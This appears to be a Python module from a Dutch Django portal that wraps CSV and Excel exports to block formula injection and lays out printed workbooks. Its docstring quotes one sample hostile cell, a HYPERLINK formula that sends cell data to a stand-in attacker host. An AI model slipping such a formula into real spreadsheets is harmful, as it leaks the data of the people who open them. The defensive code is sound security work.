"""Every CSV and xlsx the portal hands out goes through here: no formula injection.

A spreadsheet program runs a cell that starts with `=`, `+`, `-` or `@` (and some read a
leading tab or carriage return the same way) as a formula, so an action titled
`=HYPERLINK("https://evil.example/?"&A1;"Klik")` would become a live link in the
projectleider's Excel. `neutralise` puts a single quote before such text (the OWASP advice);
numbers, and text that is only a signed number such as `-12` or `+1.139,5`, stay as they are.

Use `csv_writer(stream)` instead of `csv.writer`, and `new_workbook()` + `write_rows(sheet,
rows)` instead of `openpyxl.Workbook()` + `sheet.append`; `csv_response` / `xlsx_response`
build a whole download. `tests/test_exports.py` fails when an app calls `csv.writer` or
`Workbook()` itself.

A workbook is printed and forwarded too: `new_workbook` gives it Dutch document properties
(author GHNT-portaal, language nl-NL), `lay_out_table(sheet)` a table sheet's layout: column
widths from the header and the first rows, the header row frozen, an autofilter, and an A4
landscape print set-up one page wide with the header row on every page.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Any

from django.http import HttpResponse

if TYPE_CHECKING:
    from openpyxl import Workbook
    from openpyxl.worksheet.worksheet import Worksheet

AUTHOR = "GHNT-portaal"
LANGUAGE = "nl-NL"
# Column widths are read from the header and this many rows: enough to see a column's usual
# content, and bounded, so a national export (thousands of rows) costs no more than a small
# one. A width is in characters of the default font, between these bounds.
WIDTH_SAMPLE_ROWS = 300
MIN_WIDTH, MAX_WIDTH = 8, 60
# Text wider than its column wraps, in a sheet of at most this many rows: a list someone
# prints (a region's actions). Wrapping costs a fifth of the export's time at the size of
# every region's actions (3,000 rows, 60 printed pages), which is filtered before printing.
WRAP_MAX_ROWS = 1000

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[-+]?[0-9][0-9.,\s]*")
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def neutralise(value: Any) -> Any:
    """`value` as safe to put in a spreadsheet cell: text that a spreadsheet would read as a
    formula gets a leading single quote; anything else is returned unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def restore(value: Any) -> Any:
    """The inverse of `neutralise`, for files the portal reads back (the plan workbook): text
    it neutralised comes back as it was, so export -> import changes nothing."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise(value) for value in row]


class SafeWriter:
    """`csv.writer` whose rows are neutralised."""

    def __init__(self, stream: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: Any, delimiter: str = ";", **kwargs: Any) -> SafeWriter:
    """A CSV writer (semicolon separated: Dutch Excel) that neutralises every cell."""
    return SafeWriter(stream, delimiter=delimiter, **kwargs)


def csv_response(filename: str, rows: Iterable[Sequence[Any]]) -> HttpResponse:
    """A CSV download, UTF-8 with BOM so Dutch Excel reads the accents."""
    # Written to a buffer, then handed to the response at once: HttpResponse.write encodes
    # each row on its own, a third of a 3,000-row export's time.
    buffer = io.StringIO()
    buffer.write("\ufeff")
    csv_writer(buffer).writerows(rows)
    response = HttpResponse(buffer.getvalue(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def new_workbook(title: str = "") -> Workbook:
    """An empty workbook whose properties say who made it and in which language (openpyxl
    would name itself the author)."""
    from openpyxl import Workbook

    workbook = Workbook()
    properties = workbook.properties
    properties.creator = properties.lastModifiedBy = AUTHOR
    properties.language = LANGUAGE
    properties.title = title or None
    return workbook


def _text_width(value: Any) -> int:
    if value is None:
        return 0
    if isinstance(value, str):
        return max(len(line) for line in value.split("\n"))
    return len(str(value))


def lay_out_table(sheet: Worksheet, caps: Sequence[float] | None = None) -> None:
    """Lay out a sheet whose first row is a header and whose rows follow: widths, frozen
    header, autofilter, print set-up. `caps` are the widest a column may become (its text
    wraps beyond, up to WRAP_MAX_ROWS rows); a column of a sheet without rows (a template)
    gets its cap."""
    from openpyxl.styles import Alignment
    from openpyxl.utils import get_column_letter, range_boundaries

    # One pass over the cells for the sheet's size: openpyxl's max_row and max_column (and
    # iter_rows without bounds) each walk every cell again.
    dimensions = sheet.calculate_dimension()
    _first_col, _first_row, columns, rows = range_boundaries(dimensions)
    bounds = {"min_col": 1, "max_col": columns}
    header = [_text_width(v) for v in next(sheet.iter_rows(max_row=1, values_only=True, **bounds))]
    content = [0] * columns
    sample = min(rows, WIDTH_SAMPLE_ROWS + 1)
    for row in sheet.iter_rows(min_row=2, max_row=sample, values_only=True, **bounds):
        for index, value in enumerate(row):
            content[index] = max(content[index], _text_width(value))
    empty = rows < 2
    wrap = Alignment(wrap_text=True, vertical="top")
    wrapped: dict[int, float] = {}
    for index in range(columns):
        cap = caps[index] if caps and index < len(caps) else MAX_WIDTH
        # The header is never cut (+3: the autofilter's button); content up to the cap.
        head = (header[index] if index < len(header) else 0) + 3
        width = max(MIN_WIDTH, head, cap if empty else min(content[index] + 2, cap))
        sheet.column_dimensions[get_column_letter(index + 1)].width = width
        if content[index] + 2 > width:  # longer text wraps instead of being cut off
            wrapped[index] = width
    if wrapped and not empty and rows - 1 <= WRAP_MAX_ROWS:
        _wrap(sheet, wrapped, wrap, rows)
    sheet.freeze_panes = "A2"
    sheet.auto_filter.ref = dimensions
    sheet.print_title_rows = "1:1"
    print_setup(sheet)


def _wrap(sheet: Worksheet, widths: dict[int, float], wrap: Any, rows: int) -> None:
    """Wrap the cells of these columns whose text is wider than the column, and make their
    rows as tall as the longest wrapped cell: LibreOffice keeps an xlsx row's stored height,
    so wrapped lines would overlap. Only the rows that need it are touched (a national
    export has thousands)."""
    first, last = min(widths) + 1, max(widths) + 1
    for row in sheet.iter_rows(min_row=2, max_row=rows, min_col=first, max_col=last):
        lines = 1
        for cell in row:
            value, width = cell.value, widths.get(cell.column - 1)
            if width is None or not isinstance(value, str):
                continue
            if len(value) < width - 1 and "\n" not in value:
                continue
            per_line = max(int(width) - 1, 1)
            count = sum(-(-len(part) // per_line) or 1 for part in value.split("\n"))
            if count > 1:
                cell.alignment = wrap
                lines = max(lines, count)
        if lines > 1:
            sheet.row_dimensions[row[0].row].height = min(15 * lines, 409)


def print_setup(sheet: Worksheet) -> None:
    """A4 landscape, as wide as one page (as many pages down as needed), grid lines and page
    numbers: printed, a table reads as on screen."""
    sheet.page_setup.paperSize = sheet.PAPERSIZE_A4
    sheet.page_setup.orientation = sheet.ORIENTATION_LANDSCAPE
    sheet.page_setup.fitToWidth = 1
    sheet.page_setup.fitToHeight = 0
    sheet.sheet_properties.pageSetUpPr.fitToPage = True
    sheet.print_options.gridLines = True
    sheet.oddFooter.center.text = "Pagina &P van &N"
    sheet.oddFooter.left.text = "&A"  # the sheet's name


def write_rows(sheet: Worksheet, rows: Iterable[Iterable[Any]]) -> None:
    """Append `rows` to `sheet`, neutralised. openpyxl stores a string that starts with `=` as
    a formula; after `neutralise` no text cell starts with one, so every text is text."""
    for row in rows:
        sheet.append(safe_row(row))


def xlsx_response(filename: str, workbook: Workbook) -> HttpResponse:
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = HttpResponse(buffer.getvalue(), content_type=XLSX_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
